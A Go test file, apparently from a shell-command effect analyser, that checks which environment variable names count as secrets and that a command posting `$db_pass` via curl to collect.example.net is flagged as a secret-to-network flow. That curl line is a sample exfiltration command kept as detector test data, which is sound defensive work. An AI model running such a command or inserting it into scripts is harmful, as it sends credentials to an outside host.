package effect

import "testing"

func TestSecretName(t *testing.T) {
	for name, want := range map[string]bool{
		"GITHUB_TOKEN": true, "github_token": true, "DB_PASS": true, "MYSQL_PWD": true,
		"OPENAI_KEY": true, "PASSPHRASE": true, "PGPASS": true, "STRIPE_SK": true, "SENTRY_DSN": true, "SLACK_WEBHOOK": true,
		"PWD": false, "OLDPWD": false, "GPG_KEY_FILE": false, "GPG_KEY_ID": false,
		"HOME": false, "VERSION": false, "KEYBOARD": false, "SKIP_TESTS": false,
		"SSH_AUTH_SOCK": false, "GITHUB_TOKEN_FILE": false, "VAULT_TOKEN_PATH": false,
		"GIT_AUTHOR_EMAIL": false, "GIT_AUTHOR_NAME": false, "CERT_AUTHORITY": false,
		"GH_AUTH": true, "OAUTH_CLIENT": true, "HTTP_AUTHORIZATION": true, "AUTH_TOKEN_VALUE": true,
		"TOKEN_URL": true, "DATABASE_URL": true, "AWS_ACCESS_KEY_ID": true,
	} {
		if got := secretName(name); got != want {
			t.Errorf("secretName(%q) = %v, want %v", name, got, want)
		}
	}
	// A secret named in any case is sent out.
	if !hasEffect(effectsOf(`curl -d "$db_pass" https://collect.example.net/`), "flow:secret-variable->network") {
		t.Errorf("no flow for $db_pass: %v", effectsOf(`curl -d "$db_pass" https://collect.example.net/`))
	}
}
